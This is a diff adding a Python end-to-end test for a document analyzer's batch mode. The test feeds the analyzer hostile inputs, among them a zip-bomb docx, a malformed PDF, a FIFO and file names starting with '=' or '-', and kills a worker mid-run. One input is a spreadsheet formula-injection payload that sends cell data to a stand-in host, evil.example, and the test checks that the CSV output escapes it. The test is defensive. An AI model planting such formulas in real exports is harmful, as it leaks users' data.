@@ -512,3 +512,78 @@ def test_check_survives_fifos_gbk_names_and_a_document_over_its_time_budget(tmp_
     lines = [json.loads(line) for line in result.output.splitlines()]
     assert result.exit_code == 1 and [d["error"]["code"] for d in lines] == ["timeout", "empty"]
     assert "1 s" in lines[0]["error"]["message"] and "--timeout" in lines[0]["error"]["message"]
+
+
+# --------------------------------------------------------------------------- batch end to end
+
+def _workers_of(pid: int) -> list[int]:
+    """Pids of the spawned worker processes whose parent is ``pid``."""
+    found = []
+    for entry in Path("/proc").iterdir():
+        try:
+            stat_line = (entry / "stat").read_text()
+            cmdline = (entry / "cmdline").read_bytes()
+        except (OSError, ValueError):
+            continue
+        if int(stat_line.rsplit(")", 1)[1].split()[1]) == pid and b"spawn_main" in cmdline:
+            found.append(int(entry.name))
+    return found
+
+
+def test_batch_gives_every_hostile_input_a_row_even_when_a_worker_is_killed(tmp_path):
+    import signal
+    import time
+
+    from analyzer.library import Library
+
+    from .test_batch import material
+
+    docs = tmp_path / "docs"
+    docs.mkdir()
+    evil = '=HYPERLINK("http://evil.example/?q="&B2,"详情")'
+    (docs / "=1+1.txt").write_text(GOOD, encoding="utf-8")
+    (docs / "-2+3.txt").write_text("\n".join(material("b001")), encoding="utf-8")
+    (docs / "抄库.txt").write_text("\n".join(material("c001")[:8]), encoding="utf-8")
+    with open(os.fsencode(docs) + "/对照检查材料.txt".encode("gbk"), "wb") as fh:
+        fh.write("\n".join(material("a001")).encode("utf-8"))
+    lines = GOOD.splitlines()
+    (docs / "混合.txt").write_bytes(b"\n".join(ln.encode("gbk" if i % 2 else "utf-8") for i, ln in enumerate(lines)))
+    (docs / "炸弹.docx").write_bytes(docx_with(extra={"word/numbering.xml": b" " * (5 << 20)}))
+    (docs / "嵌套.docx").write_bytes(docx_with(nested_tables(14)))
+    (docs / "加密.pdf").write_bytes(encrypted_pdf("AES-256", ""))
+    (docs / "数组.pdf").write_bytes(raw_pdf("/Foo [" + " 0" * 100_001 + "]"))
+    fifo = tmp_path / "管道.txt"
+    os.mkfifo(fifo)
+    library = tmp_path / "refs.sqlite"
+    with Library(library) as lib:
+        lib.add(evil, "\n".join(material("c001")))
+    out = tmp_path / "out"
+    (out / "reports").mkdir(parents=True)
+    (out / "reports" / "我的笔记.html").write_text("用户自己的笔记", encoding="utf-8")
+
+    proc = subprocess.Popen([sys.executable, "-m", "analyzer", "batch", str(docs), str(fifo), "--out", str(out),
+                             "--library", str(library), "--jobs", "2"], cwd=ROOT, stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE)
+    killed = None
+    while killed is None and proc.poll() is None:
+        for pid in _workers_of(proc.pid)[:1]:
+            os.kill(pid, signal.SIGKILL)
+            killed = pid
+        time.sleep(0.2)
+    stdout, stderr = proc.communicate(timeout=900)
+    assert killed is not None
+    assert b"Traceback" not in stderr, stderr.decode("utf-8", "replace")
+    assert proc.returncode == 1, stderr.decode("utf-8", "replace")
+    rows = [json.loads(line) for line in (out / "results.jsonl").read_text(encoding="utf-8").splitlines()]
+    codes = {d["name"]: d.get("error", {}).get("code") for d in rows}
+    assert codes == {"-2+3.txt": None, "=1+1.txt": None, "加密.pdf": None, "嵌套.docx": "too_complex",
+                     "对照检查材料.txt": None, "抄库.txt": None, "数组.pdf": "corrupt_pdf", "混合.txt": None,
+                     "炸弹.docx": "zip_bomb", "管道.txt": "not_regular_file"}
+    by_name = {d["name"]: d for d in rows}
+    assert by_name["抄库.txt"]["copy"]["sources"][0]["source"] == evil
+    assert [w["code"] for w in by_name["混合.txt"]["warnings"]][:1] == ["mixed_encoding"]
+    assert (out / "reports" / "我的笔记.html").read_text(encoding="utf-8") == "用户自己的笔记"
+    assert (out / "reports" / "对照检查材料.txt.html").exists()
+    with open(out / "results.csv", encoding="utf-8-sig", newline="") as fh:
+        table = {r["文件 name"]: r for r in csv.DictReader(fh)}
+    assert "'=1+1.txt" in table and table["抄库.txt"]["主要来源 top_source"] == "'" + evil
